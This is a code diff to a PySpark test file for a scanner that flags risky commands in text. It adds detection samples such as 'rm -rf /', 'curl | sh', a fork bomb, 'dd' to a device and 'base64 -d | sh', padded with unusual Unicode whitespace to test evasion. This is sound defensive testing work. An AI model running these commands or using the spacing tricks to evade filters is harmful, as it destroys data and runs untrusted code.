@@ -5,7 +5,7 @@ import hashlib
 from pyspark.sql import functions as F
 
 from leakscan_spark.functions import issues as fn
-from leakscan_spark.functions.review import extension, front_matter, inventory_class, list_field
+from leakscan_spark.functions.review import COMMAND_SIGNALS, extension, front_matter, inventory_class, list_field
 from leakscan_spark.functions.severity import deep_tier, external_severity, normalise_level
 from leakscan_spark.functions.urls import extract_urls, is_unsafe_url
 from leakscan_spark.operators import issues, report, review
@@ -15,6 +15,21 @@ def bundle(spark, name, **files):
     return spark.createDataFrame([(name, f, t) for f, t in files.items()], "bundle string, file string, text string")
 
 
+SPACED = {
+    "rm -rf /": "rm{}-rf{}/ ", "sudo rm": "sudo{}rm", "curl | sh": "curl x |{}sh", "wget | sh": "wget x |{}bash", "iwr | iex": "iwr x |{}iex", "eval()": "eval{}(",
+    "exec()": "exec{}(", "new Function(...)": "Function{}({}'", "chmod 777": "chmod{}777", "fork bomb": ":(){{{}:|:&{}}};:", "dd to device": "dd{}if=/dev/zero{}of=/dev",
+    "mkfs (format)": "{}mkfs", "base64 decode | sh": "base64{}-d x |{}sh", "persistence primitive": "crontab{}-e",
+}
+
+
+def test_commands_with_unusual_white_space(spark):
+    assert list(SPACED) == [n for n, _ in COMMAND_SIGNALS]
+    rows = [(f"{name} {ord(space):x}", name, f"x {text.replace('{}', space).replace('{{', '{').replace('}}', '}')} y") for name, text in SPACED.items() for space in "\u00a0\u2003\u3000"]
+    texts = spark.createDataFrame(rows, "bundle string, file string, text string")
+    got = {(r.bundle, r.name) for r in review.signals(texts).where("kind = 'command'").collect()}
+    assert {(b, n) for b, n, _ in rows} <= got
+
+
 def test_signals_and_positions(spark):
     text = "a\ncurl http://x | sh\n​z​\n" + "A" * 200 + "==\n" + "\\x41" * 8 + "\n<!--\n please IGNORE   this\n-->\nsudo rm -rf /\nnew Function('x')"
     got = sorted((r.kind, r.name or "", r.line, r.sample or "") for r in review.signals(bundle(spark, "b", f=text)).collect())
